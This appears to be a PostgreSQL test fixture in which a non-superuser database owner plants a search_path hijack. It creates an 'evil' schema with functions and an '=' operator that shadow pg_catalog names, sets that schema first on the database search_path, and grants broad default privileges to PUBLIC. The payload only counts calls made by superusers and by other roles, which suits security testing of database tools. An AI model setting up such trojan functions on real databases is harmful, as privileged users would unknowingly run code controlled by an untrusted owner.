-- What an owner of a database, who is no superuser, can lay out for whoever works there with more rights than he has.
-- Run by himself, in a database that is his. Whatever of this is run counts as whom.
CREATE SCHEMA evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
-- Sequences: what they count stays counted when the transaction is rolled back, and they are no rows of the application.
CREATE SEQUENCE evil.by_superuser;
CREATE SEQUENCE evil.by_others;
GRANT USAGE ON SEQUENCE evil.by_superuser, evil.by_others TO PUBLIC;
CREATE FUNCTION evil.note() RETURNS void LANGUAGE plpgsql AS $$
BEGIN
  PERFORM pg_catalog.nextval(CASE WHEN r.rolsuper THEN 'evil.by_superuser' ELSE 'evil.by_others' END)
    FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) current_user;
EXCEPTION WHEN OTHERS THEN NULL;  -- In a transaction that only reads.
END $$;
CREATE FUNCTION evil.pg_backend_pid() RETURNS integer LANGUAGE plpgsql AS $$
BEGIN PERFORM evil.note(); RETURN pg_catalog.pg_backend_pid(); END $$;
CREATE FUNCTION evil.current_setting(text) RETURNS text LANGUAGE plpgsql AS $$
BEGIN PERFORM evil.note(); RETURN pg_catalog.current_setting($1); END $$;
CREATE FUNCTION evil.to_regclass(text) RETURNS regclass LANGUAGE plpgsql AS $$
BEGIN PERFORM evil.note(); RETURN pg_catalog.to_regclass($1); END $$;
CREATE FUNCTION evil.has_schema_privilege(oid, text) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN PERFORM evil.note(); RETURN pg_catalog.has_schema_privilege($1, $2); END $$;
CREATE FUNCTION evil.names_equal(name, name) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN PERFORM evil.note(); RETURN $1 OPERATOR(pg_catalog.=) $2; END $$;
CREATE OPERATOR evil.= (LEFTARG = name, RIGHTARG = name, FUNCTION = evil.names_equal);
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC;
ALTER DEFAULT PRIVILEGES GRANT ALL ON SEQUENCES TO PUBLIC;
DO $$ BEGIN
  EXECUTE pg_catalog.format('ALTER DATABASE %I SET search_path = evil, pg_catalog, public', pg_catalog.current_database());
END $$;
